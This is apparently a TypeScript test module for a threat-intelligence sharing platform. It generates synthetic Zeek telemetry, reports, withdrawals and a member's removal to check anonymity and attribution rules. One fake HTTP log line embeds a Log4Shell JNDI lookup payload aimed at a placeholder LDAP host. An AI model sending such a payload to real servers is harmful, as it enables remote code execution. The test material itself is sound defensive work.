/**
 * What happens in a world: telemetry by the real door, reports, answers, withdrawals, changes in the register. All of
 * it is drawn from a seed but whose it is: the same story is told once with P and once with Q as its origin, and what
 * everybody else does stays the same.
 */
import { sql } from "kysely";
import type { Draw } from "../../src/base/index.js";
import { attributions, tlpLabels } from "../../src/model/index.js";
import { codings } from "../../src/share/proof/codings.js";
import { ask } from "./center.js";
import type { PlannedCommunity, PlannedMember } from "./community.js";
import type { World } from "./world.js";

/** A report as it is sent; whose it is stands elsewhere. */
interface PlannedReport {
  readonly input: Readonly<Record<string, unknown>>;
  readonly groups: readonly number[];
  readonly named: readonly string[];
  readonly withdrawn: "never" | "before" | "after";
  readonly byToken: boolean;
}

export interface Story {
  /** Only what nobody at all may know the sender of: then the center's own people are third parties as well. */
  readonly unknownToAll: boolean;
  readonly reports: readonly PlannedReport[];
  /** Values that the origin's machines meet, in batches. */
  readonly met: readonly (readonly string[])[];
  /** Whether the others' telemetry comes before the origin's. */
  readonly othersFirst: boolean;
  /** The origin asks for an exposure that R has. */
  readonly clash: boolean;
  /** P leaves the community in the end, whether or not it was the origin. */
  readonly leaves: boolean;
}

const values = [
  "192.0.2.9",
  "bad-bollard.example",
  "203.0.113.66",
  "203.0.113.77",
  "http://evil-crane.example/x",
  "192.0.2.45",
];

const base64 = (text: string): string => Buffer.from(text).toString("base64");

export function planStory(draw: Draw, plan: PlannedCommunity, unknownToAll: boolean): Story {
  const secrets = plan.members.flatMap((member) => member.secrets);
  const hidden = (): string => {
    const secret = draw.pick(secrets);
    return draw.pick(codings.filter(({ sorts }) => sorts.includes(secret.sort))).write(secret.value);
  };
  const text = () =>
    [
      "They didn't call - they wrote...",
      ...draw.picks(2, ["Seen at the gate lane.", "It asked for a password.", "The mail came at noon."]),
      ...(draw.once(2) ? [`See ${hidden()} there`] : []),
    ].join("\n");
  const pairGroups = plan.members[0]?.groups ?? [];
  const reports = Array.from({ length: unknownToAll ? 4 : 7 }, (_, at): PlannedReport => {
    const tlp = draw.pick(tlpLabels);
    // More than the center may know it only of a member that agreed to it: the rest is refused.
    const asked = attributions[at % attributions.length] as string;
    const mayBeNamed = plan.members[0]?.consents === true || !["groups", "members"].includes(asked);
    const attribution = unknownToAll ? "nobody" : mayBeNamed ? asked : "center";
    return {
      input: {
        title: draw.once(3) ? `Odd mail ${at} ${hidden()}` : `Odd mail ${at}`,
        text: text(),
        observables: [
          { type: "ipv4", value: `198.51.100.${10 + at}` },
          { type: "domain", value: `odd-${at}.example` },
        ],
        tlp,
        attribution,
        urgent: draw.once(3),
        // Files of one whom nobody may know would tell who it is: they are refused.
        evidence:
          attribution !== "nobody" && (draw.once(2) || at === 1)
            ? [{ name: `${draw.pick(secrets).value}.txt`, content: base64(text()) }]
            : [],
      },
      groups: draw.once(2) ? pairGroups.slice(0, 1) : [],
      named: tlp === "TLP:RED" ? ["R admin", "S analyst"] : [],
      withdrawn: (["never", "never", "before", "after"] as const)[draw.below(4)] as "never",
      byToken: draw.once(3),
    };
  });
  return {
    unknownToAll,
    reports,
    met: unknownToAll
      ? []
      : [draw.some(values), [...draw.some(values), "192.0.2.9"], ["bad-bollard.example"]],
    othersFirst: draw.once(2),
    clash: !unknownToAll && draw.once(2),
    leaves: !unknownToAll && !draw.once(4),
  };
}

/** All that the origin writes in its reports and their files, as it reads it again. */
export function wordsOf({ reports }: Story): string {
  const files = reports.flatMap(({ input }) => input["evidence"] as readonly { readonly content: string }[]);
  return [
    JSON.stringify(reports),
    ...files.map(({ content }) => Buffer.from(content, "base64").toString()),
  ].join("\n");
}

/** Zeek's lines of a machine of the member that meets some values. */
function telemetry(world: World, member: PlannedMember, met: readonly string[], batch: number): string {
  const ts = world.clock.nowUs() / 1e6 - 60;
  const inside = `${(member.networks[0] ?? "").replace(/\.0\.0\/16$/, "")}.2.${17 + batch}`;
  const secret = member.exposures[0]?.value ?? "";
  const lines: object[] = met.map((value, at) => {
    const start = { ts: ts + at, uid: `C${batch}${at}`, "id.orig_h": inside, "id.orig_p": 50_000 + at };
    if (/^http/.test(value)) {
      const { host, pathname } = new URL(value);
      const http = { method: "GET", host, uri: pathname, user_agent: `Updater of ${member.name}` };
      return { _path: "http", ...start, "id.resp_h": "198.51.100.80", "id.resp_p": 80, ...http };
    }
    if (/^\d/.test(value))
      return { _path: "conn", ...start, "id.resp_h": value, "id.resp_p": 443, proto: "tcp", note: secret };
    const dns = { "id.resp_h": inside.replace(/\d+$/, "53"), "id.resp_p": 53, proto: "udp", query: value };
    return { _path: "dns", ...start, ...dns };
  });
  // Somebody outside asks each that sends for what a rule knows.
  if (batch === 0)
    lines.push({
      _path: "http",
      ts: ts + met.length,
      uid: "Cx",
      "id.orig_h": "192.0.2.200",
      "id.orig_p": 40_000,
      "id.resp_h": inside,
      "id.resp_p": 80,
      method: "GET",
      host: member.name,
      uri: "/?x=%24%7Bjndi:ldap://192.0.2.201/a%7D",
      user_agent: `Updater of ${secret}`,
    });
  return `${[...lines.map((line) => JSON.stringify(line)), `{"_path":"conn" broken ${secret}`].join("\n")}\n`;
}

async function send(
  world: World,
  member: PlannedMember,
  met: readonly string[],
  batch: number,
): Promise<void> {
  const caller = world.caller(`${member.label} token ingest`);
  const answer = await ask(world.server, caller, {
    method: "POST",
    path: "/ingest",
    raw: telemetry(world, member, met, batch),
    headers: { "x-breakwater-origin": "zeek.log", "content-type": "application/x-ndjson" },
  });
  if (answer.status >= 300) throw new Error(answer.text);
  await world.center.idle();
}

const memberOf = (world: World, label: string): PlannedMember => {
  const found = world.plan.members.find((member) => member.label === label);
  if (found === undefined) throw new Error(`There is no ${label}`);
  return found;
};

/** Everything up to the moment at which what may be told at once has been told. */
export async function tell(world: World, story: Story, origin: "P" | "Q"): Promise<void> {
  const { clock } = world;
  const own = memberOf(world, origin);
  const others = async () => {
    await send(world, memberOf(world, "R"), ["192.0.2.9", "203.0.113.77"], 0);
    clock.advanceMs(30_000);
    await send(world, memberOf(world, "T"), ["http://evil-crane.example/x"], 0);
    clock.advanceMs(30_000);
    // Others report as well, so that lists have an order that could tell.
    const body = { title: "A call", text: "It wasn't us...", tlp: "TLP:GREEN", urgent: true };
    for (const label of ["S", "T", "U"]) {
      clock.advanceMs(1_000);
      await ask(world.server, world.caller(`${label} analyst`), {
        method: "POST",
        path: "/api/reports",
        body,
      });
      await pass(world, 0);
    }
  };
  if (story.othersFirst) await others();
  for (const [at, met] of story.met.entries()) {
    await send(world, own, met, at);
    clock.advanceMs(45_000);
  }
  if (!story.othersFirst) await others();
  await look(world);
  await answerOwnWarnings(world, origin);
  if (story.clash) {
    const theirs = memberOf(world, "R").exposures.find(({ kind }) => kind === "domain")?.value;
    const body = { kind: "domain", value: theirs };
    await ask(world.server, world.caller(`${origin} admin`), {
      method: "POST",
      path: "/api/exposures",
      body,
    });
  }
  for (const [at, report] of story.reports.entries()) {
    clock.advanceMs(20_000);
    await look(world);
    await sendReport(world, origin, report, at);
  }
}

/**
 * Both of the two are at their desks: operators see when a session or a token was last used (docs/the-gate.md, what it
 * does not hide). Only one of them does more than look.
 */
async function look(world: World): Promise<void> {
  for (const label of ["P", "Q"])
    for (const who of ["analyst", "admin", "token report", "token read"])
      await ask(world.server, world.caller(`${label} ${who}`), { method: "GET", path: "/api/session" });
}

/** What the origin's own people answer its own warnings. */
async function answerOwnWarnings(world: World, origin: "P" | "Q"): Promise<void> {
  const analyst = world.caller(`${origin} analyst`);
  const list = await ask(world.server, analyst, { method: "GET", path: "/api/warnings?limit=5" });
  const { rows } = JSON.parse(list.body) as { rows: readonly { id: string }[] };
  for (const [at, { id }] of rows.entries()) {
    world.clock.advanceMs(5_000);
    world.ids.set(`warning of the origin ${at}`, id);
    const body = { kind: "on it", note: `We at ${memberOf(world, origin).name} look` };
    await ask(world.server, analyst, { method: "POST", path: `/api/warnings/${id}/reactions`, body });
  }
}

async function sendReport(world: World, origin: "P" | "Q", report: PlannedReport, at: number): Promise<void> {
  const who = report.byToken ? `${origin} token report` : `${origin} analyst`;
  const body = {
    ...report.input,
    groupIds: report.groups.map((group) => world.idOf(`group ${group}`)),
    namedPersonIds: report.named.map((person) => world.idOf(`person ${person}`)),
  };
  const answer = await ask(world.server, world.caller(who), { method: "POST", path: "/api/reports", body });
  if (answer.status !== 200) throw new Error(answer.text);
  const { id, evidence } = JSON.parse(answer.body) as { id: string; evidence: readonly { id: string }[] };
  for (const file of evidence) world.ids.set("evidence of the origin", file.id);
  world.ids.set(`report of the origin ${at}`, id);
  // What is urgent leaves at once, before the clock goes on.
  await pass(world, 0);
  if (report.withdrawn === "before") await withdraw(world, origin, at);
}

async function withdraw(world: World, origin: "P" | "Q", at: number): Promise<void> {
  const path = `/api/reports/${world.idOf(`report of the origin ${at}`)}/withdraw`;
  const answer = await ask(world.server, world.caller(`${origin} analyst`), {
    method: "POST",
    path,
    body: {},
  });
  if (answer.status !== 200) throw new Error(answer.text);
}

/** Lets time pass, and what has become due leave. */
export async function pass(world: World, minutes: number): Promise<void> {
  const { center, clock } = world;
  clock.advanceMs(minutes * 60_000);
  const isDue = async () => {
    const nowUs = clock.nowUs();
    const { rows } = await sql`
      select 1 from report where (released_us is null and release_us <= ${nowUs}) or withdrawal_us <= ${nowUs}
      union all select 1 from sighting where tell_us <= ${nowUs}
      union all select 1 from removed_sighting where tell_us <= ${nowUs} limit 1`.execute(center.state.db);
    return rows.length > 0;
  };
  const wake = () => {
    center.changed("report");
    center.changed("sighting");
  };
  for (wake(); await isDue(); wake()) await new Promise((resolve) => setTimeout(resolve, 20));
  await center.refresh("indicators");
  await world.mails.deliver();
}

/** What happens once everything was released: withdrawals. */
export async function goOn(world: World, story: Story, origin: "P" | "Q"): Promise<void> {
  for (const [at, report] of story.reports.entries())
    if (report.withdrawn === "after") {
      world.clock.advanceMs(1_000);
      await look(world);
      await withdraw(world, origin, at);
    }
}

/**
 * P is removed by an operator, while what the origin has just met is not told yet. Then R's machines meet what nobody
 * had met, what the origin had met before, and what it has just met: others hear of it as if nobody had left.
 */
export async function leave(world: World, origin: "P" | "Q"): Promise<void> {
  await send(world, memberOf(world, origin), ["203.0.113.66"], 7);
  const path = `/api/members/${world.idOf("member P")}?withOpenWarnings=true`;
  const answer = await ask(world.server, world.caller("operator"), { method: "DELETE", path });
  if (answer.status !== 200) throw new Error(answer.text);
  // One after the other: what is told at one microsecond is listed by ids, which are drawn.
  for (const [at, value] of ["10-days.example", "bad-bollard.example", "203.0.113.66"].entries()) {
    world.clock.advanceMs(60_000);
    await send(world, memberOf(world, "R"), [value], 1 + at);
  }
}
